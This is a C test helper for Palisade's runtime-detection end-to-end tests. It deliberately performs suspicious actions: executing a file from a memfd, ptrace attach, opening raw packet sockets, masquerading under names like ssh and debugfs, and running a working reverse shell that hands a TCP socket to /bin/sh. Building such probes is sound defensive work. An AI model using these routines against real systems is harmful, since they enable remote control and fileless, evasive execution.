/* palisade-probe: one suspicious system-call pattern per call, for the end-to-end tests of
 * Palisade's runtime rules (e2e/tests/e2e/runtime). It does what busybox cannot: execute
 * from a memfd, ptrace, open a packet socket, hand a connected socket to a shell, open a
 * file for writing without writing to it.
 *
 * Built static by hack/runtime-test-image.sh, which also installs copies of it under
 * program names some rules key on (ssh, nginx, debugfs): a copy called `ssh` connects
 * like an SSH client; under any name, an unknown first argument makes it a stand-in that
 * prints what it is and exits 0.
 *
 * Nothing here harms the node: it never writes to the files it opens, kills only its own
 * children, and sends no data but what a test listener reads.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef MFD_EXEC
#define MFD_EXEC 0x0010U /* Linux 6.3: say so, or newer kernels log a warning */
#endif
#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif

extern char **environ;

static const char *self = "palisade-probe";

static int fail(const char *what)
{
	fprintf(stderr, "%s: %s: %s\n", self, what, strerror(errno));
	return 1;
}

static int usage(void)
{
	fprintf(stderr,
		"usage: %s memfd-exec FILE ARG0 [ARG...]  execute FILE from an anonymous memory file\n"
		"       %s ptrace-traceme                  a child asks to be traced (PTRACE_TRACEME)\n"
		"       %s ptrace-attach                   attach to a child (PTRACE_ATTACH), detach\n"
		"       %s packet-socket                   open an AF_PACKET raw socket\n"
		"       %s connect ADDRESS PORT            TCP connect, then close\n"
		"       %s reverse-shell ADDRESS PORT      connect; the socket becomes stdin, stdout\n"
		"                                          and stderr of /bin/sh\n"
		"       %s open PATH r|w [SECONDS]         wait SECONDS, then open PATH for reading\n"
		"                                          or writing (nothing is written)\n"
		"       ssh [-p PORT] [USER@]ADDRESS       (a copy named ssh) TCP connect like an SSH\n"
		"                                          client (no protocol)\n",
		self, self, self, self, self, self, self);
	return 2;
}

/* A TCP connection to a numeric IPv4 or IPv6 address; -1 with errno on failure. */
static int tcp_connect(const char *address, const char *port_text)
{
	char *end;
	long port = strtol(port_text, &end, 10);
	if (*end || port <= 0 || port > 65535) {
		errno = EINVAL;
		return -1;
	}
	struct sockaddr_storage ss;
	socklen_t len;
	memset(&ss, 0, sizeof(ss));
	struct sockaddr_in *v4 = (struct sockaddr_in *)&ss;
	struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)&ss;
	if (inet_pton(AF_INET, address, &v4->sin_addr) == 1) {
		v4->sin_family = AF_INET;
		v4->sin_port = htons((unsigned short)port);
		len = sizeof(*v4);
	} else if (inet_pton(AF_INET6, address, &v6->sin6_addr) == 1) {
		v6->sin6_family = AF_INET6;
		v6->sin6_port = htons((unsigned short)port);
		len = sizeof(*v6);
	} else {
		errno = EINVAL;
		return -1;
	}
	int s = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return -1;
	if (connect(s, (struct sockaddr *)&ss, len) != 0) {
		int e = errno;
		close(s);
		errno = e;
		return -1;
	}
	return s;
}

static int memfd_exec(int argc, char **argv)
{
	if (argc < 4)
		return usage();
	int in = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return fail(argv[2]);
	/* Not MFD_CLOEXEC: the kernel needs the descriptor while it executes it. */
	int fd = memfd_create("payload", MFD_EXEC);
	if (fd < 0 && errno == EINVAL)
		fd = memfd_create("payload", 0);
	if (fd < 0)
		return fail("memfd_create");
	char buf[65536];
	ssize_t n;
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		for (ssize_t off = 0; off < n;) {
			ssize_t w = write(fd, buf + off, (size_t)(n - off));
			if (w < 0)
				return fail("write to the memfd");
			off += w;
		}
	}
	if (n < 0)
		return fail(argv[2]);
	close(in);
	syscall(SYS_execveat, fd, "", &argv[3], environ, AT_EMPTY_PATH);
	return fail("execveat of the memfd");
}

static int ptrace_traceme(void)
{
	pid_t child = fork();
	if (child < 0)
		return fail("fork");
	if (child == 0) {
		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) != 0) {
			fail("ptrace(PTRACE_TRACEME)");
			_exit(1);
		}
		_exit(0);
	}
	int status;
	if (waitpid(child, &status, 0) != child)
		return fail("waitpid");
	if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
		return 1;
	printf("%s: a child asked to be traced by its parent (PTRACE_TRACEME)\n", self);
	return 0;
}

static int ptrace_attach(void)
{
	pid_t child = fork();
	if (child < 0)
		return fail("fork");
	if (child == 0) {
		for (;;)
			pause();
	}
	int rc = 0, status;
	if (ptrace(PTRACE_ATTACH, child, NULL, NULL) != 0) {
		rc = fail("ptrace(PTRACE_ATTACH)");
	} else {
		if (waitpid(child, &status, 0) != child)
			rc = fail("waitpid");
		else if (ptrace(PTRACE_DETACH, child, NULL, NULL) != 0)
			rc = fail("ptrace(PTRACE_DETACH)");
		else
			printf("%s: attached to process %d (PTRACE_ATTACH) and detached\n", self, (int)child);
	}
	kill(child, SIGKILL);
	waitpid(child, &status, 0);
	return rc;
}

static int packet_socket(void)
{
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (s < 0)
		return fail("socket(AF_PACKET, SOCK_RAW)");
	printf("%s: opened a packet socket\n", self);
	close(s);
	return 0;
}

static int do_connect(const char *address, const char *port)
{
	int s = tcp_connect(address, port);
	if (s < 0)
		return fail("connect");
	printf("%s: connected to %s port %s\n", self, address, port);
	close(s);
	return 0;
}

static int reverse_shell(const char *address, const char *port)
{
	int s = tcp_connect(address, port);
	if (s < 0)
		return fail("connect");
	/* dup2 keeps neither end close-on-exec: the shell inherits 0, 1 and 2. */
	for (int fd = 0; fd <= 2; fd++)
		if (dup2(s, fd) < 0)
			return fail("dup2");
	close(s);
	execl("/bin/sh", "sh", (char *)NULL);
	return fail("exec /bin/sh");
}

static int open_path(int argc, char **argv)
{
	if (argc < 4 || (strcmp(argv[3], "r") != 0 && strcmp(argv[3], "w") != 0))
		return usage();
	if (argc > 4)
		sleep((unsigned)atoi(argv[4]));
	int write_mode = argv[3][0] == 'w';
	int fd = open(argv[2], (write_mode ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
	if (fd < 0)
		return fail(argv[2]);
	printf("%s: opened %s for %s\n", self, argv[2], write_mode ? "writing" : "reading");
	close(fd);
	return 0;
}

/* `ssh [-p PORT] [USER@]ADDRESS [COMMAND...]`: the connection an SSH client makes. */
static int ssh(int argc, char **argv)
{
	const char *port = "22", *host = NULL;
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "-p") == 0 && i + 1 < argc) {
			port = argv[++i];
		} else if (argv[i][0] != '-') {
			host = argv[i];
			break;
		}
	}
	if (!host)
		return usage();
	const char *at = strrchr(host, '@');
	if (at)
		host = at + 1;
	return do_connect(host, port);
}

/* A copy under another program's name (debugfs, ...): its start is the behaviour. */
static int stand_in(void)
{
	printf("%s: a stand-in for the real %s in Palisade's runtime test image\n", self, self);
	return 0;
}

int main(int argc, char **argv)
{
	self = basename(argv[0]);
	int probe = strcmp(self, "palisade-probe") == 0;
	if (strcmp(self, "ssh") == 0)
		return ssh(argc, argv);
	if (argc < 2)
		return probe ? usage() : stand_in();
	const char *cmd = argv[1];
	if (strcmp(cmd, "memfd-exec") == 0)
		return memfd_exec(argc, argv);
	if (strcmp(cmd, "ptrace-traceme") == 0)
		return ptrace_traceme();
	if (strcmp(cmd, "ptrace-attach") == 0)
		return ptrace_attach();
	if (strcmp(cmd, "packet-socket") == 0)
		return packet_socket();
	if (strcmp(cmd, "connect") == 0 && argc == 4)
		return do_connect(argv[2], argv[3]);
	if (strcmp(cmd, "reverse-shell") == 0 && argc == 4)
		return reverse_shell(argv[2], argv[3]);
	if (strcmp(cmd, "open") == 0)
		return open_path(argc, argv);
	return probe ? usage() : stand_in();
}
